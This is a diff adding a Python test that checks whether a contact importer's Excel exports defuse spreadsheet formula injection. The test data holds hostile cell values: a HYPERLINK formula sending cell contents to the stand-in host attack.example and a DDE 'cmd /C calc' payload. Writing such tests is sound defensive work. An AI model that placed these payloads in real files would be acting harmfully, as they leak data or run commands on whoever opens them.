@@ -18,6 +18,7 @@ import importer.reports.workbook_report
 from importer.model import Checkup
 from importer.reports.workbook_report import NOTES, write_workbook
 from tests.reports.conftest import HOSTILE, Examine
+from tests.support.command import Cli
 
 SOFFICE = shutil.which("soffice")
 ROOT = Path(__file__).parents[2]
@@ -26,6 +27,40 @@ ROOT = Path(__file__).parents[2]
 def copy_of(checkup: Checkup, path: Path) -> Worksheet:
     write_workbook(path, checkup)
     return openpyxl.load_workbook(path).worksheets[0]
+
+
+RUN_BY_PROGRAMS = (
+    '=HYPERLINK("http://attack.example/?"&A1)',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "=cmd|' /C calc'!A1",
+    "{=1+1}",
+    "\t=1+1",
+)
+
+
+def test_no_cell_of_a_workbook_is_run_by_a_spreadsheet_program(cli: Cli, tmp_path: Path) -> None:
+    """`failures.csv` keeps such cells as they came; the workbooks beside it have them as text."""
+    with (tmp_path / "list.csv").open("w", encoding="utf-8", newline="") as file:
+        lines = csv.writer(file)
+        lines.writerow(["Name", "Phone", "=1+2"])
+        lines.writerows([text, "no phone", text] for text in RUN_BY_PROGRAMS)
+    (tmp_path / "m.yaml").write_text(
+        "version: 1\nregion: HU\nform: {name: Name}\ncontacts: {1: {phone: Phone}}\n", "utf-8"
+    )
+    out, report = tmp_path / "out", tmp_path / "report.xlsx"
+    given = ("list.csv", "-m", "m.yaml", "--out", out, "--report", report)
+    assert cli("run", *given, "--sandbox", "--header-row", 1, "--max-failures", "100%") == 1
+    assert RUN_BY_PROGRAMS[0].replace('"', '""') in (out / "failures.csv").read_text("utf-8")
+    for path in (out / "failures.xlsx", report):
+        book = openpyxl.load_workbook(path)
+        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+        assert {cell.data_type for cell in cells} <= {"s", "n"}
+        texts = [cell.value for cell in cells if cell.data_type == "s"]
+        assert {text.strip() for text in RUN_BY_PROGRAMS} <= {str(text).strip() for text in texts}
+        assert not [cell for cell in cells if cell.hyperlink]
 
 
 def by_row(checkup: Checkup) -> list[tuple[object, ...]]:
